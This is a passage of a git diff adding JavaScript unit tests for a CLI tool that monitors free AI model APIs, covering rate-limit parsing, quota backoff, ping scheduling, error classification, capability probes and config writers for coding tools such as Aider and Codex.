+  it('diffCatalog reports new and vanished ids', () => {
+    assert.deepEqual(diffCatalog(['a', 'b'], ['b', 'c']), { added: ['c'], removed: ['a'] })
+  })
+
+  it('isLikelyChatModel filters embedding / audio / guard models', () => {
+    assert.equal(isLikelyChatModel('openai/gpt-oss-120b'), true)
+    assert.equal(isLikelyChatModel('nvidia/nv-embedqa-e5-v5'), false)
+    assert.equal(isLikelyChatModel('whisper-large-v3'), false)
+    assert.equal(isLikelyChatModel('meta-llama/llama-guard-4-12b'), false)
+  })
+
+  describe('discoverCatalogs cache', () => {
+    // 📖 A directory that doesn't exist yet — the cache creates its own, never ~/.free-coding-models
+    const cachePath = join(mkdtempSync(join(tmpdir(), 'fcm-catalog-')), 'cache', 'catalog.json')
+    const target = [{ providerKey: 'groq', url: 'http://example.invalid/v1/models', headers: {} }]
+    const ok = (ids) => async () => ({ ok: true, json: async () => ({ data: ids.map(id => ({ id })) }) })
+    const failing = async () => { throw new Error('offline') }
+
+    it('fetches and caches a fresh list', async () => {
+      const catalogs = await discoverCatalogs(target, { now: 1000, cachePath, fetchImpl: ok(['a', 'b']) })
+      assert.deepEqual(catalogs.groq.models.map(m => m.id), ['a', 'b'])
+      assert.equal(catalogs.groq.fromCache, false)
+      assert.ok(existsSync(cachePath))
+    })
+
+    it('serves the cache within the TTL without fetching', async () => {
+      let called = false
+      const catalogs = await discoverCatalogs(target, { now: 2000, ttlMs: 10_000, cachePath, fetchImpl: async () => { called = true; return ok([])() } })
+      assert.equal(called, false)
+      assert.equal(catalogs.groq.fromCache, true)
+    })
+
+    it('falls back to the stale cache when a refresh fails', async () => {
+      const catalogs = await discoverCatalogs(target, { now: 1_000_000, ttlMs: 10, cachePath, fetchImpl: failing })
+      assert.equal(catalogs.groq.stale, true)
+      assert.deepEqual(catalogs.groq.models.map(m => m.id), ['a', 'b'])
+    })
+
+    it('force refresh ignores the TTL', async () => {
+      const catalogs = await discoverCatalogs(target, { now: 3000, force: true, cachePath, fetchImpl: ok(['c']) })
+      assert.deepEqual(catalogs.groq.models.map(m => m.id), ['c'])
+    })
+  })
+
+  it('parseArgs recognizes catalog, --refresh and --no-discovery', () => {
+    const args = parseArgs(['node', 'script.js', 'catalog', '--refresh'])
+    assert.equal(args.command, 'catalog')
+    assert.equal(args.refreshMode, true)
+    assert.equal(parseArgs(['node', 'script.js', '--no-discovery']).noDiscovery, true)
+    assert.equal(parseArgs(['node', 'script.js']).noDiscovery, false)
+  })
+
+  it('buildResultSummary includes the catalog flag', () => {
+    assert.equal(buildResultSummary(mockResult({ catalogStatus: 'new' })).catalog, 'new')
+    assert.equal(buildResultSummary(mockResult()).catalog, null)
+  })
+})
+
+// ═══════════════════════════════════════════════════════════════════════════════
+// 📖 15. QUOTA AWARENESS — rate-limit headers, backoff decisions, daily budget
+// ═══════════════════════════════════════════════════════════════════════════════
+describe('rate-limit headers', () => {
+  const now = 1_700_000_000_000
+
+  it('parseResetValue understands durations, epochs, deltas and HTTP dates', () => {
+    assert.equal(parseResetValue('2m30s', now), now + 150_000)
+    assert.equal(parseResetValue('1.5s', now), now + 1500)
+    assert.equal(parseResetValue('250ms', now), now + 250)
+    assert.equal(parseResetValue('1h2m', now), now + 3_720_000)
+    assert.equal(parseResetValue('30', now), now + 30_000)
+    assert.equal(parseResetValue('1700000100', now), 1_700_000_100_000)
+    assert.equal(parseResetValue('1700000100000', now), 1_700_000_100_000)
+    assert.equal(parseResetValue('Tue, 14 Nov 2023 22:15:00 GMT', now), Date.parse('Tue, 14 Nov 2023 22:15:00 GMT'))
+    assert.equal(parseResetValue('soon', now), null)
+    assert.equal(parseResetValue(null, now), null)
+  })
+
+  it('parses OpenAI/Groq-style request and token headers', () => {
+    const rl = parseRateLimitHeaders({
+      'x-ratelimit-limit-requests': '1000',
+      'x-ratelimit-remaining-requests': '998',
+      'x-ratelimit-reset-requests': '1m26.4s',
+      'x-ratelimit-remaining-tokens': '5800',
+      'x-ratelimit-limit-tokens': '6000',
+    }, now)
+    assert.equal(rl.remaining, 998)
+    assert.equal(rl.limit, 1000)
+    assert.equal(rl.resetAt, now + 86_400)
+    assert.equal(rl.remainingTokens, 5800)
+    assert.equal(rl.retryAfterMs, null)
+  })
+
+  it('picks the tightest window when per-minute and per-day are both reported', () => {
+    const rl = parseRateLimitHeaders({
+      'x-ratelimit-remaining-requests': '29', 'x-ratelimit-limit-requests': '30',
+      'x-ratelimit-remaining-requests-day': '3', 'x-ratelimit-limit-requests-day': '14400',
+    }, now)
+    assert.equal(rl.remaining, 3)
+    assert.equal(rl.limit, 14400)
+  })
+
+  it('parses OpenRouter-style headers and retry-after from a fetch Headers object', () => {
+    const rl = parseRateLimitHeaders(new Headers({ 'X-RateLimit-Limit': '20', 'X-RateLimit-Remaining': '0', 'X-RateLimit-Reset': String(now + 40_000), 'Retry-After': '12' }), now)
+    assert.equal(rl.remaining, 0)
+    assert.equal(rl.resetAt, now + 40_000)
+    assert.equal(rl.retryAfterMs, 12_000)
+  })
+
+  it('returns null when no rate-limit header is present', () => {
+    assert.equal(parseRateLimitHeaders({ 'content-type': 'application/json' }, now), null)
+    assert.equal(parseRateLimitHeaders(null, now), null)
+  })
+
+  it('quotaFraction needs both remaining and limit', () => {
+    assert.equal(quotaFraction({ remaining: 25, limit: 100 }), 0.25)
+    assert.equal(quotaFraction({ remaining: 25, limit: null }), null)
+    assert.equal(quotaFraction(null), null)
+  })
+})
+
+describe('quotaBackoff', () => {
+  const now = 1_700_000_000_000
+
+  it('does not back off a healthy model', () => {
+    assert.equal(quotaBackoff({ rateLimit: { remaining: 900, limit: 1000 }, lastCode: '200', lastPingAt: now - 1000 }, now), null)
+    assert.equal(quotaBackoff({}, now), null)
+  })
+
+  it('honours retry-after after a 429', () => {
+    const b = quotaBackoff({ rateLimit: { remaining: null, limit: null, retryAfterMs: 20_000 }, lastCode: '429', lastPingAt: now - 5000 }, now)
+    assert.equal(b.reason, 'retry-after')
+    assert.equal(b.until, now + 15_000)
+    assert.equal(quotaBackoff({ rateLimit: { retryAfterMs: 20_000 }, lastCode: '429', lastPingAt: now - 25_000 }, now), null)
+  })
+
+  it('waits for the reset when the window is exhausted', () => {
+    const b = quotaBackoff({ rateLimit: { remaining: 0, limit: 30, resetAt: now + 40_000 }, lastCode: '200', lastPingAt: now - 1000 }, now)
+    assert.deepEqual(b, { reason: 'exhausted', until: now + 40_000 })
+  })
+
+  it('slows down when little quota is left', () => {
+    const b = quotaBackoff({ rateLimit: { remaining: 5, limit: 100 }, lastCode: '200', lastPingAt: now - 10_000 }, now)
+    assert.equal(b.reason, 'low')
+    assert.equal(quotaBackoff({ rateLimit: { remaining: 5, limit: 100 }, lastCode: '200', lastPingAt: now - 61_000 }, now), null)
+  })
+
+  it('stops at the monitoring share of a daily limit until the next UTC day', () => {
+    const b = quotaBackoff({ usedToday: 25, dailyLimit: 50 }, now)
+    assert.equal(b.reason, 'budget')
+    assert.equal(new Date(b.until).toISOString().slice(11), '00:00:00.000Z')
+    assert.equal(quotaBackoff({ usedToday: 24, dailyLimit: 50 }, now), null)
+  })
+
+  it('buildResultSummary exposes the quota window', () => {
+    const summary = buildResultSummary(mockResult({ rateLimit: { remaining: 42, limit: 100 } }))
+    assert.equal(summary.quotaRemaining, 42)
+    assert.equal(summary.quotaLimit, 100)
+    assert.equal(buildResultSummary(mockResult()).quotaRemaining, null)
+  })
+
+  it('OpenRouter has a known daily limit', () => {
+    assert.equal(PROVIDER_DAILY_LIMITS.openrouter, 50)
+  })
+
+  it('formatQuotaWait fits the column', () => {
+    assert.equal(formatQuotaWait(4_200), '5s')
+    assert.equal(formatQuotaWait(125_000), '3m')
+    assert.equal(formatQuotaWait(5 * 3_600_000), '5h')
+  })
+
+  it('daily usage rolls over with the UTC day', () => {
+    const usagePath = join(mkdtempSync(join(tmpdir(), 'fcm-quota-')), 'data', 'quota.json')
+    const usage = loadQuotaUsage(now, usagePath)
+    assert.equal(recordQuotaUsage(usage, 'openrouter', now, usagePath), 1)
+    assert.equal(recordQuotaUsage(usage, 'openrouter', now, usagePath), 2)
+    assert.equal(getQuotaUsed(loadQuotaUsage(now, usagePath), 'openrouter', now), 2)
+    const tomorrow = now + 24 * 3_600_000
+    assert.equal(getQuotaUsed(usage, 'openrouter', tomorrow), 0)
+    assert.equal(getQuotaUsed(loadQuotaUsage(tomorrow, usagePath), 'openrouter', tomorrow), 0)
+  })
+
+  it('in-flight pings count against the budget until they are recorded', () => {
+    const usagePath = join(mkdtempSync(join(tmpdir(), 'fcm-quota-')), 'quota.json')
+    const usage = loadQuotaUsage(now, usagePath)
+    const limit = Math.floor(PROVIDER_DAILY_LIMITS.openrouter * MONITOR_BUDGET_SHARE)
+    for (let i = 0; i < limit; i++) reserveQuotaUsage(usage, 'openrouter')
+    assert.equal(getQuotaUsed(usage, 'openrouter', now), limit)
+    assert.equal(quotaBackoff({ usedToday: getQuotaUsed(usage, 'openrouter', now), dailyLimit: PROVIDER_DAILY_LIMITS.openrouter }, now)?.reason, 'budget')
+    recordQuotaUsage(usage, 'openrouter', now, usagePath)
+    assert.equal(getQuotaUsed(usage, 'openrouter', now), limit, 'a recorded ping moves from pending to counts')
+    assert.deepEqual(Object.keys(JSON.parse(readFileSync(usagePath, 'utf8'))).sort(), ['counts', 'day'])
+  })
+})
+
+// ═══════════════════════════════════════════════════════════════════════════════
+// 📖 16. PING SCHEDULER — per-row cadence and per-provider concurrency
+// ═══════════════════════════════════════════════════════════════════════════════
+describe('ping cadence', () => {
+  const interval = 3000
+  const pings = (...codes) => codes.map(code => ({ ms: code === '000' ? 'TIMEOUT' : 100, code }))
+
+  it('failureStreak counts trailing 429s and timeouts only', () => {
+    assert.equal(failureStreak(pings('200', '429', '000')), 2)
+    assert.equal(failureStreak(pings('429', '200')), 0)
+    assert.equal(failureStreak([]), 0)
+  })
+
+  it('isDeadResult needs three hard failures in a row', () => {
+    assert.equal(isDeadResult(mockResult({ pings: pings('200', '404', '500', 'ERR') })), true)
+    assert.equal(isDeadResult(mockResult({ pings: pings('404', '404') })), false)
+    assert.equal(isDeadResult(mockResult({ pings: pings('404', '429', '404') })), false)
+    assert.equal(isDeadResult(mockResult({ pings: pings('401', '401', '401') })), false)
+  })
+
+  it('healthy rows wait the interval, favorites and the cursor row half of it', () => {
+    assert.equal(nextPingDelay(mockResult({ pings: pings('200') }), interval), interval)
+    assert.equal(nextPingDelay(mockResult({ pings: pings('200'), isFavorite: true }), interval), interval / 2)
+    assert.equal(nextPingDelay(mockResult({ pings: pings('200') }), interval, { priority: true }), interval / 2)
+    assert.equal(nextPingDelay(mockResult({ isFavorite: true }), 1500), MIN_PING_DELAY_MS)
+  })
+
+  it('429 / timeout streaks back off exponentially up to the cap, even for favorites', () => {
+    assert.equal(nextPingDelay(mockResult({ pings: pings('429'), isFavorite: true }), interval), interval * 2)
+    assert.equal(nextPingDelay(mockResult({ pings: pings('000', '429', '000') }), interval), interval * 8)
+    assert.equal(nextPingDelay(mockResult({ pings: pings(...Array(12).fill('429')) }), interval), MAX_BACKOFF_MS)
+  })
+
+  it('dead rows are pinged less often', () => {
+    assert.equal(nextPingDelay(mockResult({ pings: pings('404', '404', '404') }), interval), interval * DEAD_FACTOR)
+  })
+
+  it('pingPhase spreads rows over the first quarter of the interval', () => {
+    const phases = [0, 1, 2, 3, 4, 5].map(i => pingPhase(i, interval))
+    assert.ok(phases.every(p => p >= 0 && p < interval / 4))
+    assert.ok(new Set(phases).size > 4)
+  })
+
+  it('isPingDue respects last ping time, phase, priority and quota pauses', () => {
+    const now = 1_000_000
+    assert.equal(isPingDue(mockResult(), { now, interval }), true)
+    const r = mockResult({ idx: 0, pings: pings('200'), lastPingAt: now - 2000 })
+    assert.equal(isPingDue(r, { now, interval }), false)
+    assert.equal(isPingDue(r, { now, interval, priority: true }), true)
+    assert.equal(isPingDue({ ...r, lastPingAt: now - 3000 }, { now, interval }), true)
+    assert.equal(isPingDue({ ...r, lastPingAt: now - 10_000, quotaBackoff: { reason: 'low', until: now + 1 } }, { now, interval }), false)
+  })
+})
+
+describe('createProviderLimiter', () => {
+  it('caps concurrent calls per provider and queues the rest in order', async () => {
+    const limiter = createProviderLimiter({ groq: 2 }, 1)
+    let running = 0
+    let peak = 0
+    const order = []
+    const task = (id) => async () => {
+      running++
+      peak = Math.max(peak, running)
+      await new Promise(resolve => setTimeout(resolve, 5))
+      running--
+      order.push(id)
+      return id
+    }
+    const all = Promise.all([1, 2, 3, 4, 5].map(id => limiter.run('groq', task(id))))
+    assert.equal(limiter.inFlight('groq'), 5)
+    assert.deepEqual(await all, [1, 2, 3, 4, 5])
+    assert.equal(peak, 2)
+    assert.deepEqual(order.slice(2), [3, 4, 5])
+    assert.equal(limiter.inFlight('groq'), 0)
+  })
+
+  it('providers do not share slots and failures release them', async () => {
+    const limiter = createProviderLimiter({}, 1)
+    await assert.rejects(limiter.run('a', async () => { throw new Error('boom') }), /boom/)
+    const results = await Promise.all([limiter.run('a', async () => 'a'), limiter.run('b', async () => 'b')])
+    assert.deepEqual(results, ['a', 'b'])
+    assert.equal(limiter.inFlight('a'), 0)
+  })
+})
+
+// ═══════════════════════════════════════════════════════════════════════════════
+// 📖 17. ERROR CLASSIFICATION — failure kinds, provider error bodies, verdicts
+// ═══════════════════════════════════════════════════════════════════════════════
+describe('error classification', () => {
+  const netErr = (code, message = 'boom') => Object.assign(new TypeError('fetch failed'), { cause: Object.assign(new Error(message), { code }) })
+
+  it('extractErrorMessage reads the common provider body shapes', () => {
+    assert.equal(extractErrorMessage('{"error":{"message":"Invalid API Key","code":"invalid_api_key"}}'), 'Invalid API Key — invalid_api_key')
+    assert.equal(extractErrorMessage({ error: 'model overloaded' }), 'model overloaded')
+    assert.equal(extractErrorMessage('{"detail":"Function not found for account"}'), 'Function not found for account')
+    assert.equal(extractErrorMessage('[{"error":{"code":404,"message":"models/x is not found","status":"NOT_FOUND"}}]'), 'models/x is not found — NOT_FOUND')
+    assert.equal(extractErrorMessage('<html><body><h1>502 Bad Gateway</h1></body></html>'), '502 Bad Gateway')
+    assert.equal(extractErrorMessage(''), null)
+    assert.equal(extractErrorMessage('{}'), null)
+  })
+
+  it('classifies network failures from the undici cause code', () => {
+    assert.equal(classifyNetworkError(netErr('ENOTFOUND')).kind, 'dns')
+    assert.equal(classifyNetworkError(netErr('ECONNREFUSED')).kind, 'refused')
+    assert.equal(classifyNetworkError(netErr('CERT_HAS_EXPIRED')).kind, 'tls')
+    assert.equal(classifyNetworkError(netErr('ERR_TLS_CERT_ALTNAME_INVALID')).kind, 'tls')
+    assert.equal(classifyNetworkError(netErr('UND_ERR_CONNECT_TIMEOUT')).kind, 'timeout')
+    assert.equal(classifyNetworkError(Object.assign(new Error('aborted'), { name: 'AbortError' })).kind, 'timeout')
+    assert.equal(classifyNetworkError(new TypeError('fetch failed')).kind, 'network')
+    assert.equal(classifyNetworkError(netErr('ENOTFOUND', 'getaddrinfo ENOTFOUND api.example')).detail, 'getaddrinfo ENOTFOUND api.example')
+  })
+
+  it('classifies HTTP statuses', () => {
+    assert.equal(classifyHttpError(401).kind, 'auth')
+    assert.equal(classifyHttpError(403).label, 'bad key')
+    assert.equal(classifyHttpError(404).action, 'drop-model')
+    assert.equal(classifyHttpError(402).kind, 'quota')
+    assert.equal(classifyHttpError(429).kind, 'rate_limit')
+    assert.equal(classifyHttpError(400).kind, 'bad_request')
+    assert.equal(classifyHttpError(503).kind, 'outage')
+    assert.deepEqual(classifyHttpError(418), { kind: 'http', label: 'HTTP 418', action: 'wait', detail: null })
+  })
+
+  it('lets the JSON body refine the status', () => {
+    const quota429 = classifyHttpError(429, '{"error":{"message":"You exceeded your current quota","type":"insufficient_quota"}}')
+    assert.equal(quota429.kind, 'quota')
+    assert.equal(quota429.detail, 'You exceeded your current quota — insufficient_quota')
+    assert.equal(classifyHttpError(400, '{"error":{"message":"The model `foo` does not exist"}}').kind, 'not_found')
+    assert.equal(classifyHttpError(400, '{"message":"Invalid API key provided"}').kind, 'auth')
+    assert.equal(classifyHttpError(500, 'upstream crashed').kind, 'outage')
+  })
+
+  it('flags 2xx bodies that are not JSON', () => {
+    assert.equal(classifyResponseBody('{"choices":[]}'), null)
+    assert.equal(classifyResponseBody('<html>maintenance</html>').kind, 'malformed')
+    assert.equal(classifyResponseBody(null), null)
+  })
+
+  it('describeError trims long details and falls back to http', () => {
+    assert.equal(describeError('dns', 'x'.repeat(500)).detail.length, 200)
+    assert.equal(describeError('nope').kind, 'http')
+  })
+
+  it('getVerdict only calls a model Overloaded while it is actually rate limited', () => {
+    assert.equal(getVerdict(mockResult({ status: 'down', httpCode: '429', error: describeError('rate_limit') })), 'Overloaded')
+    assert.equal(getVerdict(mockResult({ status: 'down', httpCode: '429', error: describeError('quota') })), 'Not Active')
+    const recovered = mockResult({ status: 'up', httpCode: '429', error: null, pings: [{ ms: 'x', code: '429' }, { ms: 120, code: '200' }] })
+    assert.equal(getVerdict(recovered), 'Perfect')
+  })
+
+  it('buildResultSummary carries the classified error', () => {
+    const error = describeError('not_found', 'model gone')
+    assert.deepEqual(buildResultSummary(mockResult({ status: 'down', error })).error, error)
+    assert.equal(buildResultSummary(mockResult()).error, null)
+  })
+})
+
+// ═══════════════════════════════════════════════════════════════════════════════
+// 📖 18. CAPABILITY PROBE — tool calls, JSON mode, streaming, recommend scoring
+// ═══════════════════════════════════════════════════════════════════════════════
+describe('capability probe', () => {
+  const toolAnswer = (...args) => ({
+    choices: [{ message: { role: 'assistant', tool_calls: args.map((a, i) => ({ id: `call_${i}`, type: 'function', function: { name: 'read_file', arguments: a } })) } }],
+  })
+
+  it('PROBE_TOOL is a valid OpenAI function definition', () => {
+    assert.equal(PROBE_TOOL.type, 'function')
+    assert.equal(PROBE_TOOL.function.name, 'read_file')
+    assert.deepEqual(PROBE_TOOL.function.parameters.required, ['path'])
+  })
+
+  it('evaluateToolCallResponse tells ok / repaired / broken / none apart', () => {
+    assert.equal(evaluateToolCallResponse(toolAnswer('{"path":"src/index.js"}')), 'ok')
+    assert.equal(evaluateToolCallResponse(toolAnswer('{"path":"src/index.js"}.')), 'repaired')
+    assert.equal(evaluateToolCallResponse(toolAnswer('{"path":"src/index.js"')), 'repaired')
+    assert.equal(evaluateToolCallResponse(toolAnswer('path=src/index.js')), 'broken')
+    assert.equal(evaluateToolCallResponse({ choices: [{ message: { content: 'Sure, here is the file…' } }] }), 'none')
+    assert.equal(evaluateToolCallResponse({}), 'none')
+  })
+
+  it('evaluateToolCallResponse does not mutate the response it judges', () => {
+    const answer = toolAnswer('{"path":"a.js"}.')
+    evaluateToolCallResponse(answer)
+    assert.equal(answer.choices[0].message.tool_calls[0].function.arguments, '{"path":"a.js"}.')
+  })
+
+  it('evaluateJsonModeResponse needs a JSON object as content', () => {
+    assert.equal(evaluateJsonModeResponse({ choices: [{ message: { content: ' {"ok": true} ' } }] }), true)
+    assert.equal(evaluateJsonModeResponse({ choices: [{ message: { content: 'ok: true' } }] }), false)
+    assert.equal(evaluateJsonModeResponse({ choices: [{ message: { content: '[1,2]' } }] }), false)
+  })
+
+  it('evaluateStreamEvents looks for delta chunks', () => {
+    assert.equal(evaluateStreamEvents(['{"choices":[{"delta":{"content":"hi"}}]}', '[DONE]']), true)
+    assert.equal(evaluateStreamEvents(['{"choices":[{"message":{"content":"hi"}}]}']), false)
+    assert.equal(evaluateStreamEvents(['not json', '[DONE]']), false)
+  })
+
+  it('capabilityMultiplier leaves unprobed models alone and penalizes missing capabilities', () => {
+    assert.equal(capabilityMultiplier(undefined), 1)
+    assert.equal(capabilityMultiplier({ status: 'running' }), 1)
+    assert.equal(capabilityMultiplier({ status: 'done', tools: 'ok', json: true, stream: true }), 1)
+    assert.equal(capabilityMultiplier({ status: 'done', tools: 'broken', json: true, stream: true }), CAPABILITY_PENALTIES.tools.broken)
+    assert.equal(capabilityMultiplier({ status: 'done', tools: null, json: false, stream: false }), CAPABILITY_PENALTIES.noJson * CAPABILITY_PENALTIES.noStream)
+  })
+
+  it('Smart Recommend ranks a model with working tools above an identical one with broken tools', () => {
+    const pings = [{ ms: 200, code: '200' }, { ms: 210, code: '200' }]
+    const good = mockResult({ pings, capabilities: { status: 'done', tools: 'ok', json: true, stream: true } })
+    const bad = mockResult({ idx: 2, pings, capabilities: { status: 'done', tools: 'broken', json: true, stream: true } })
+    assert.ok(scoreModelForTask(good, 'refactor', 'balanced', 'medium') > scoreModelForTask(bad, 'refactor', 'balanced', 'medium'))
+    assert.equal(getTopRecommendations([bad, good], 'quickfix', 'speed', 'small', 1)[0].result, good)
+  })
+
+  it('parseArgs and buildResultSummary know about the probe', () => {
+    assert.equal(parseArgs(['node', 'script.js', '--probe']).probeMode, true)
+    assert.equal(parseArgs(['node', 'script.js']).probeMode, false)
+    assert.deepEqual(buildResultSummary(mockResult({ capabilities: { status: 'done', tools: 'repaired', json: false, stream: true } })).capabilities, { tools: 'repaired', json: false, stream: true })
+    assert.equal(buildResultSummary(mockResult({ capabilities: { status: 'running' } })).capabilities, null)
+  })
+})
+
+// ═══════════════════════════════════════════════════════════════════════════════
+// 📖 19. INTEGRATION TARGETS — Aider, Continue, Cline/Roo, Codex, Goose config writers
+// ═══════════════════════════════════════════════════════════════════════════════
+describe('integration targets', () => {
+  const ctx = {
+    modelId: 'llama-3.3-70b-versatile', label: 'Llama 3.3 70B', providerKey: 'groq', providerName: 'Groq',
+    chatUrl: 'https://api.groq.com/openai/v1/chat/completions', envVar: 'GROQ_API_KEY', apiKey: 'gsk_test',
+  }
+
+  it('resolveTargetName accepts names and aliases, case-insensitively', () => {
+    assert.equal(resolveTargetName('Codex'), 'codex')
+    assert.equal(resolveTargetName('roo'), 'cline')
+    assert.equal(resolveTargetName('vim'), null)
+    assert.equal(resolveTargetName(undefined), null)
+  })
+
+  it('targetBaseUrl strips the chat/completions suffix', () => {
+    assert.equal(targetBaseUrl('https://api.groq.com/openai/v1/chat/completions'), 'https://api.groq.com/openai/v1')
+    assert.equal(targetBaseUrl('https://api.z.ai/api/coding/paas/v4/chat/completions/'), 'https://api.z.ai/api/coding/paas/v4')
+  })
+
+  it('setYamlKeys replaces owned keys in place and keeps comments and other keys', () => {
+    const out = setYamlKeys('# my aider config\nmodel: gpt-4o\ndark-mode: true\n', { model: 'openai/x', 'openai-api-base': 'https://h/v1' })
+    assert.equal(out, '# my aider config\nmodel: "openai/x"\ndark-mode: true\nopenai-api-base: "https://h/v1"\n')
+  })
+
+  it('setTomlKeys keeps root keys before the first table and setTomlTable replaces its block', () => {
+    let out = setTomlKeys('approval_policy = "never"\n\n[mcp_servers.x]\ncommand = "y"\n', { model: 'm' })
+    assert.equal(out, 'approval_policy = "never"\nmodel = "m"\n\n[mcp_servers.x]\ncommand = "y"\n')
+    out = setTomlTable(out + '\n[model_providers.fcm-groq]\nbase_url = "old"\n', 'model_providers.fcm-groq', { base_url: 'new' })
+    assert.equal(out.match(/\[model_providers\.fcm-groq\]/g).length, 1)
+    assert.ok(out.includes('base_url = "new"') && !out.includes('"old"'))
+    assert.ok(out.includes('[mcp_servers.x]\ncommand = "y"'))
+  })
+
+  it('codex config references the key through env_key, never the key itself', () => {
+    const out = buildTargetConfig('codex', '', ctx)
+    assert.ok(out.startsWith('model = "llama-3.3-70b-versatile"\nmodel_provider = "fcm-groq"\n'))
+    assert.ok(out.includes('base_url = "https://api.groq.com/openai/v1"'))
+    assert.ok(out.includes('env_key = "GROQ_API_KEY"'))
+    assert.ok(!out.includes('gsk_test'))
+  })
+
+  it('goose splits the chat URL into host and base path, aider prefixes the model', () => {
+    const goose = buildTargetConfig('goose', 'GOOSE_MODE: auto\n', ctx)
+    assert.ok(goose.includes('GOOSE_MODE: auto'))
+    assert.ok(goose.includes('OPENAI_HOST: "https://api.groq.com"'))
+    assert.ok(goose.includes('OPENAI_BASE_PATH: "openai/v1/chat/completions"'))
+    assert.ok(buildTargetConfig('aider', '', ctx).includes('model: "openai/llama-3.3-70b-versatile"'))
+  })
+
+  it('continue puts the model first and replaces its own older entry', () => {
+    const existing = JSON.stringify({ models: [{ title: 'Old (free-coding-models)' }, { title: 'Mine' }], tabAutocompleteModel: { title: 'x' } })
+    const out = JSON.parse(buildTargetConfig('continue', existing, ctx))
+    assert.deepEqual(out.models.map(m => m.title), ['Llama 3.3 70B (free-coding-models)', 'Mine'])
+    assert.equal(out.models[0].apiBase, 'https://api.groq.com/openai/v1')
+    assert.deepEqual(out.tabAutocompleteModel, { title: 'x' })
+  })
+
+  it('cline writes a Roo Code provider profile and keeps other profiles', () => {
+    const existing = JSON.stringify({ providerProfiles: { currentApiConfigName: 'mine', apiConfigs: { mine: { apiProvider: 'anthropic' } } } })
+    const out = JSON.parse(buildTargetConfig('cline', existing, ctx)).providerProfiles
+    assert.equal(out.currentApiConfigName, 'free-coding-models')
+    assert.equal(out.apiConfigs.mine.apiProvider, 'anthropic')
+    assert.equal(out.apiConfigs['free-coding-models'].openAiModelId, 'llama-3.3-70b-versatile')
+  })
+
+  it('refuses broken JSON files and providers without chat-completions', () => {
+    assert.throws(() => buildTargetConfig('continue', '{ broken', ctx), /not a JSON object/)
+    assert.throws(() => buildTargetConfig('codex', '', { ...ctx, providerKey: 'replicate' }), /chat-completions/)
+  })
+
+  it('writeTargetConfig backs up the existing file before writing', () => {
+    const home = mkdtempSync(join(tmpdir(), 'fcm-targets-'))
+    const backupDir = join(home, 'backups')
+    const first = writeTargetConfig('aider', ctx, { home, now: 1, backupDir })
+    assert.equal(first.backupPath, null)
+    const second = writeTargetConfig('aider', { ...ctx, modelId: 'other' }, { home, now: 2, backupDir })
+    assert.equal(second.backupPath, join(backupDir, 'aider', '2-.aider.conf.yml'))
+    assert.ok(readFileSync(second.backupPath, 'utf8').includes('llama-3.3-70b-versatile'))
+    assert.ok(readFileSync(second.path, 'utf8').includes('openai/other'))
+  })
+
+  it('cline writes into the data dir and keeps an existing file private', () => {
+    const home = mkdtempSync(join(tmpdir(), 'fcm-targets-'))
+    const dataDir = join(home, '.free-coding-models.d')
+    mkdirSync(dataDir)
+    writeFileSync(join(dataDir, 'roo-settings.json'), '{}', { mode: 0o644 })
+    const { path } = writeTargetConfig('cline', { ...ctx, apiKey: 'k' }, { home, dataDir, now: 1, backupDir: join(home, 'backups') })
+    assert.equal(path, join(dataDir, 'roo-settings.json'))
+    assert.equal(statSync(path).mode & 0o777, 0o600)
+  })
+
+  it('planTargetWrite returns the new content without writing it', () => {
+    const home = mkdtempSync(join(tmpdir(), 'fcm-targets-'))
+    const plan = planTargetWrite('continue', { ...ctx, apiKey: 'k' }, { home })
+    assert.equal(existsSync(plan.path), false)
+    assert.ok(plan.content.includes('llama-3.3-70b-versatile'))
+    assert.equal(plan.mode, 0o600)
+  })
+
+  it('every target has a label, a path and a launch hint; parseArgs reads --target', () => {
+    for (const target of Object.values(INTEGRATION_TARGETS)) {
+      assert.equal(typeof target.label, 'string')
+      assert.ok(['/home/u/', '/data/u/'].some(dir => target.path('/home/u', '/data/u').startsWith(dir)))
+      assert.equal(typeof target.launch('/x'), 'string')
+    }
+    const args = parseArgs(['node', 'script.js', '--target', 'codex', 'nvapi-key'])
+    assert.equal(args.target, 'codex')
+    assert.equal(args.apiKey, 'nvapi-key')
+    assert.equal(parseArgs(['node', 'script.js']).target, null)
+  })
+})
+
+// ═══════════════════════════════════════════════════════════════════════════════
+// 📖 20. OPENCODE ROLES — main / small / plan / build / review assignment
+// ═══════════════════════════════════════════════════════════════════════════════
+describe('opencode roles', () => {
+  it('one model can hold several roles and toggling takes one back', () => {
+    let roles = {}
+    roles = toggleOpenCodeRole(roles, 'plan', 'nvidia/big')
+    roles = toggleOpenCodeRole(roles, 'build', 'nvidia/big')
+    roles = toggleOpenCodeRole(roles, 'small', 'groq/a')
+    assert.deepEqual(openCodeRolesOf(roles, 'nvidia/big'), ['plan', 'build'])
+    roles = toggleOpenCodeRole(roles, 'plan', 'nvidia/big')
+    assert.deepEqual(roles, { build: 'nvidia/big', small: 'groq/a' })
+    assert.ok(!OPENCODE_ROLES.includes('primary'), 'the main model is the row Enter launches')
+  })
+
+  it('a role has one owner — taking it unassigns the previous model', () => {
+    const before = { primary: 'nvidia/old', small: 'groq/a', plan: 'nvidia/big' }
+    const after = toggleOpenCodeRole(before, 'small', 'cerebras/b')
+    assert.deepEqual(after, { small: 'cerebras/b', plan: 'nvidia/big' })
+    assert.deepEqual(before, { primary: 'nvidia/old', small: 'groq/a', plan: 'nvidia/big' })
+    assert.deepEqual(openCodeRolesOf(after, 'groq/a'), [])
+    assert.deepEqual(openCodeRolesOf(undefined, 'groq/a'), [])
+  })
+
+  it('applyOpenCodeRoles writes model, small_model and agent models, keeping agent settings', () => {
+    const config = { model: 'old/x', agent: { plan: { temperature: 0.1 } } }
+    applyOpenCodeRoles(config, { primary: 'nvidia/big', small: 'groq/fast', plan: 'nvidia/big', review: 'cerebras/b' })
+    assert.equal(config.model, 'nvidia/big')
+    assert.equal(config.small_model, 'groq/fast')
+    assert.deepEqual(config.agent.plan, { temperature: 0.1, model: 'nvidia/big' })
+    assert.equal(config.agent.review.model, 'cerebras/b')
+    assert.equal(config.agent.review.mode, 'subagent')
+    assert.equal(config.agent.build, undefined)
+  })
+
+  it('applyOpenCodeRoles leaves unassigned roles untouched', () => {
+    const config = { model: 'a/b', small_model: 'c/d' }
+    applyOpenCodeRoles(config, {})
+    assert.deepEqual(config, { model: 'a/b', small_model: 'c/d' })
+  })
+})
+
+// ═══════════════════════════════════════════════════════════════════════════════
+// 📖 21. CONFIG WRITES — diff preview, backup ring, rollback
+// ═══════════════════════════════════════════════════════════════════════════════
+describe('config writes', () => {
